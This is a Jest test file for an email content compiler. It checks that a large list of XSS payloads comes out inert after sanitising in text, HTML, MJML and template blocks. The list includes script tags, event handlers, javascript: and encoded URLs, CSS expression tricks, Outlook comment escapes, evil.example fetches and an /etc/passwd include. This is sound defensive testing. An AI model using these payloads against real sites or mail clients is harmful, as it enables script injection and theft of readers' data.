import { describe, expect, it } from '@jest/globals';
import sanitizeHtml from 'sanitize-html';
import { compileContent } from './content-compiler.js';
import { ContentCompileError, MergeTemplateError } from '../content.errors.js';
import type { ContentBlock, ContentDocument } from './content-document.js';
import { compileMergeTemplate } from '../merge/merge-template.js';
import type { MergeValues } from '../merge/merge-values.js';
import { Wording } from '#wording';
import { footerOf } from '../processes/content-processes.service.js';

const FOOTER = footerOf({ senderName: 'Shop', postalAddress: 'Street 1' }, new Wording('en'));

const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img/src=`x`onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="java{{ custom.empty }}script:alert(1)">x</a>',
  '<a href="{{ custom.empty }}javascript:alert(1)">x</a>',
  '<a href="{% if true %}javascript:{% endif %}alert(1)">x</a>',
  '<a href="{{ \'javascript:alert(1)\' }}">x</a>',
  '<a href="{{ custom.script }}">x</a>',
  '<img src="{{ custom.script }}" alt="">',
  '<a href="https://a.example" style="background:url(javascript:alert(1))">x</a>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#a); behavior:url(x.htc)">x</p>',
  '<p style="color:{{ custom.script }}">x</p>',
  '<style>@import "https://evil.example/x.css"; * { background: url(javascript:alert(1)) }</style>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate href="#x" attributeName="href" values="javascript:alert(1)" /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>',
  '<form action="https://evil.example"><input name="p"><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<!--[if mso]><script>alert(1)</script><![endif]--><!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea><xmp><img src=x onerror=alert(1)></xmp>',
  '<title></title><script>alert(1)</script></title>',
  '</mj-text></mj-column><mj-raw><script>alert(1)</script></mj-raw>',
  '</div></td></tr></table></body></html><script>alert(1)</script>',
  '<mj-include path="/etc/passwd" type="html" />',
  '{{ "<script>alert(1)</script>" }}',
  '{{ custom.markup }}',
  '{{ custom.empty | default: &quot;&lt;script&gt;alert(1)&lt;/script&gt;&quot; }}',
  '<a href="{{ &quot;javascript:alert(1)&quot; }}">x</a>',
  '{{ custom.markup | newline_to_br }}',
  '<{{ custom.tag }}>alert(1)</{{ custom.tag }}>',
  '<p {{ custom.attribute }}>x</p>',
  '<p {{ custom.attributeName }}="alert(1)">x</p>',
  '<p title={{ custom.attribute }}>x</p>',
  '<!--[if mso]><img src=x onerror=alert(1)><script>alert(1)</script><![endif]-->',
  '<!--[if mso]>--!><script>alert(1)</script><![endif]-->',
  '<!--[if mso]><v:rect href="javascript:alert(1)" onclick="alert(1)"></v:rect><![endif]-->',
  '<!--[if mso]><style>p { behavior: url(x.htc) } </style ><script>alert(1)</script></style><![endif]-->',
  '<!--[if mso]>{{ custom.close }}<![endif]-->',
  '<!--[if mso]>-{% if custom.no %}x{% endif %}-><script>alert(1)</script><![endif]-->',
  '<!--[if !mso]><!--><script>alert(1)</script><!--<![endif]-->',
  '<!-->x<script>alert(1)</script>-->',
  '<!--- {{ custom.close }} --->',
  '<p title="{% if custom.no %}">{% endif %}" onclick="alert(1)">x</p>',
  '{% if custom.no %}<p title="{% endif %}<img src=x onerror=alert(1)>">x</p>',
  '{% for i in (1..2) %}<p title="{% break %}">{% endfor %}" onclick="alert(1)">x</p>',
  '<a {% if true %}href="javascript:alert(1)"{% endif %}>x</a>',
  '<a {% if true %}href="{{ custom.script }}"{% endif %}>x</a>',
  '<a {% if custom.no %}x{% endif %}href="{{ custom.script }}">x</a>',
  '<p {% if true %}onclick{% endif %}="alert(1)" {% if true %}onclick="alert(1)"{% endif %}>x</p>',
  '<p style="background:u{% if true %}{% endif %}rl(javascript:alert(1))">x</p>',
  '<p style="background:u{{ custom.empty }}rl(javascript:alert(1))">x</p>',
  '<p style="background:url({{ custom.script }})">x</p>',
  '<p style="{{ custom.property }}:url(https://evil.example/x)">x</p>',
  '<p style="{% if true %}-moz-binding{% endif %}:url(https://evil.example/x)">x</p>',
  '<p style="color:{{ custom.declarations }}">x</p>',
  '<p style="color:red/*{% if true %}*/;behavior:url(x.htc)/*{% endif %}*/">x</p>',
  '<p style="\\62 ehavior:url(x.htc);wi\\64th:\\65xpression(alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<table background="javascript:alert(1)"><tr><td background="{{ custom.script }}">x</td></tr></table>',
  '<style>p { color: {{ custom.sheet }} }</style>',
  '<style>p {} {% if custom.no %}</style>{% endif %}<script>alert(1)</script>',
  '<style>p::after { content: "</style><script>alert(1)</script>" }</style>',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<svg><style><img src=x onerror=alert(1)><!-- --></style></svg>',
  '<style>@media screen { @import "https://evil.example/x.css"; p { background: url(data:text/html,x) } }</style>',
  '<a title="\uFDD30\uFDD4" href="https://a.example">x</a><!--[if mso]>" onclick="alert(1)<![endif]-->',
];

const VALUES: MergeValues = {
  subscriber: {
    email: 'a@b.example',
    external_id: null,
    first_name: '"><script>alert(1)</script>',
    last_name: null,
    phone: null,
    locale: null,
    time_zone: null,
  },
  custom: {
    empty: '',
    script: 'javascript:alert(1)',
    markup: '<img src=x onerror=alert(1)>',
    tag: 'script',
    attribute: 'onclick=alert(1)',
    attributeName: 'onclick',
    close: '<![endif]--><script>alert(1)</script>',
    property: '-moz-binding',
    declarations: 'red;background:url(javascript:alert(1))',
    sheet: 'red } </style><script>alert(1)</script>',
  },
  topic: { name: 'T', key: 'K' },
  campaign: { name: 'C', key: 'K' },
  project: { name: 'P', postal_address: 'Street 1, 10115 Berlin' },
  links: {
    unsubscribe: 'https://m.example/u',
    preferences: 'https://m.example/p',
    view: 'https://m.example/v',
  },
};

const TAGS = new Set(
  (
    'html head title meta style body div table tbody tr td p a img span caption h1 h2 h3 ul li br b strong em center th thead ' +
    'tfoot ol blockquote small i u s'
  ).split(' '),
);

const schemeOf = (url: string): string | undefined =>
  /^([a-z][a-z0-9+.-]*):/i.exec(url.replaceAll(/[\p{Cc}\s]/gu, ''))?.[1]?.toLowerCase();

/** Elements that Outlook reads in its comments. */
const OFFICE = /^(?:xml|noscript|[vow]:[a-z]+)$/;
const DANGEROUS_CSS =
  /expression|url\s*\((?!\s*['"]?https?:)|binding|behavior|javascript|@import|position\s*:\s*fixed/i;

/** Parts of the rendered mail that a browser or Outlook would run or fetch, found by a parser and not by the sanitiser's rules. */
function dangersOf(html: string): string[] {
  const comments = Array.from(
    html.matchAll(/<!--\[if [^\]]*\]>([^]*?)<!\[endif\]--!?>/g),
    ([, inside]) => inside ?? '',
  );
  return [html.replaceAll(/<!--[^]*?--!?>/g, ''), ...comments].flatMap(dangersIn);
}

function dangersIn(visible: string): string[] {
  const dangers: string[] = [];
  sanitizeHtml(visible, {
    onOpenTag: (tag, attribs) => {
      if (!TAGS.has(tag) && !tag.startsWith('mj-') && !OFFICE.test(tag)) dangers.push(`<${tag}>`);
      for (const [name, value] of Object.entries(attribs)) {
        if (/^on|^srcdoc$|^srcset$|^formaction$/.test(name)) dangers.push(name);
        if (
          /^(?:href|src|action|background)$/.test(name) &&
          !['https', 'mailto', undefined].includes(schemeOf(value))
        ) {
          dangers.push(`${name}=${value}`);
        }
        if (name === 'style' && DANGEROUS_CSS.test(value)) dangers.push(value);
        if (tag === 'meta' && value === 'refresh') dangers.push('refresh');
      }
    },
  });
  for (const [, css] of visible.matchAll(/<style[^>]*>([^]*?)<\/style/g)) {
    if (DANGEROUS_CSS.test(css ?? '')) dangers.push(css ?? '');
  }
  return visible.includes('root:x:0') ? [...dangers, 'a file'] : dangers;
}

/** The mail as its reader gets it; nothing where it is refused as a whole. */
const rendered = (block: ContentBlock): Promise<string> => renderedMail({ blocks: [block] });

async function renderedMail(document: ContentDocument): Promise<string> {
  const subject = 'Hi {{ subscriber.first_name }}';
  const refused = (error: unknown): string => {
    if (error instanceof MergeTemplateError || error instanceof ContentCompileError) return '';
    throw error;
  };
  try {
    const compiled = await compileContent({
      subject,
      previewText: subject,
      document,
      contentText: null,
      footer: FOOTER,
    });
    return compileMergeTemplate(compiled.html, 'html').render(VALUES);
  } catch (error) {
    return refused(error);
  }
}

const inMjml = (markup: string): string =>
  `<mjml><mj-body><mj-section><mj-column><mj-text>${markup}</mj-text>${markup}<mj-raw>${markup}</mj-raw></mj-column></mj-section></mj-body></mjml>`;

describe('hostile content', () => {
  it.each(ATTACKS)('does nothing in a text, html or mjml block: %j', async (attack) => {
    expect(dangersOf(await rendered({ type: 'text', html: attack }))).toEqual([]);
    expect(dangersOf(await rendered({ type: 'html', html: attack }))).toEqual([]);
    expect(dangersOf(await rendered({ type: 'mjml', mjml: inMjml(attack) }))).toEqual([]);
  });

  it.each(ATTACKS)('does nothing between MJML components: %j', async (attack) => {
    const column = '<mj-column><mj-text>x</mj-text></mj-column>';
    for (const body of [
      `${attack}<mj-section>${column}</mj-section>`,
      `<mj-section>${column}${attack}</mj-section>`,
      `<mj-section>${column}</mj-section>{% if true %}${attack}{% endif %}`,
      `<mj-section>${column}</mj-section><!--[if mso]></mj-raw>${attack}<![endif]-->`,
    ])
      expect(dangersOf(await renderedMail({ mjml: `<mjml><mj-body>${body}</mj-body></mjml>` }))).toEqual([]);
  });

  it.each(ATTACKS)('does nothing in a whole page, wherever it stands in it: %j', async (attack) => {
    for (const html of [
      attack,
      `<!doctype html><html><head>${attack}</head><body>${attack}</body></html>`,
      `<html ${attack}><body ${attack}><p>x</p></body></html>${attack}`,
      `<!doctype ${attack}><html><head><style>p { color: red } ${attack}</style><title>${attack}</title></head><body>x</body></html>`,
      `<!--[if mso]>${attack}<![endif]--><body class="x">${attack}`,
    ])
      expect(dangersOf(await renderedMail({ html }))).toEqual([]);
  });

  it.each(ATTACKS)('is shown as words in a heading, a label and an image text: %j', async (attack) => {
    expect(dangersOf(await rendered({ type: 'heading', level: 1, text: attack }))).toEqual([]);
    expect(dangersOf(await rendered({ type: 'button', label: attack, url: 'https://a.example' }))).toEqual(
      [],
    );
    expect(dangersOf(await rendered({ type: 'image', src: 'https://a.example/x.png', alt: attack }))).toEqual(
      [],
    );
  });

  it.each([
    '<mj-button href="javascript:alert(1)">x</mj-button>',
    '<mj-button href="{% if true %}javascript:alert(1){% endif %}">x</mj-button>',
    '<mj-button href="{{ custom.script }}">x</mj-button>',
    `<mj-button href='https://a.example" onclick="alert(1)'>x</mj-button>`,
    `<mj-image src="https://a.example/x.png" alt='"><script>alert(1)</script>' />`,
    `<mj-text css-class='x" onclick="alert(1)'>x</mj-text>`,
    `<mj-text color='red" onclick="alert(1)'>x</mj-text>`,
    '<mj-text color="red;background:url(javascript:alert(1))">x</mj-text>',
    '<mj-text font-family="{{ custom.script }}">x</mj-text>',
    '<mj-social><mj-social-element name="x" href="javascript:alert(1)" src="javascript:alert(1)">x</mj-social-element></mj-social>',
    '<mj-section background-url="--&gt;<script>alert(1)</script>"></mj-section>',
    '<mj-navbar base-url="javascript:"><mj-navbar-link href="alert(1)">x</mj-navbar-link></mj-navbar>',
    '<mj-table><script>alert(1)</script></mj-table>',
  ])('does nothing as an MJML component: %s', async (component) => {
    const mjml = `<mjml><mj-body><mj-section><mj-column>${component}</mj-column></mj-section></mj-body></mjml>`;
    expect(dangersOf(await rendered({ type: 'mjml', mjml }))).toEqual([]);
  });

  it.each([
    '<mj-style>@import url("https://evil.example/x.css");</mj-style>',
    '<mj-style></style><script>alert(1)</script></mj-style>',
    '<mj-style>p { background: url(https://evil.example/x.css) }</mj-style>',
    '<mj-style>p { color: {{ custom.script }} }</mj-style>',
    '<mj-font name="x" href="https://evil.example/x.css" />',
    '<mj-html-attributes><mj-selector path="div"><mj-html-attribute name="onclick">alert(1)</mj-html-attribute></mj-selector></mj-html-attributes>',
    '<mj-raw><script>alert(1)</script></mj-raw>',
    '<mj-raw position="file-start"><script>alert(1)</script></mj-raw>',
    '<mj-preview><script>alert(1)</script></mj-preview>',
    '<mj-title></title><script>alert(1)</script></mj-title>',
    '<mj-include path="/etc/passwd" type="css" />',
    `<mj-attributes><mj-all color='red" onclick="alert(1)' /></mj-attributes>`,
    '<mj-attributes><mj-class name="__proto__" color="red" /></mj-attributes>',
  ])('does nothing in an MJML head: %s', async (component) => {
    const mjml = `<mjml><mj-head>${component}</mj-head><mj-body><mj-section><mj-column><mj-text>x</mj-text></mj-column></mj-section></mj-body></mjml>`;
    expect(dangersOf(await rendered({ type: 'mjml', mjml }))).toEqual([]);
  });
});
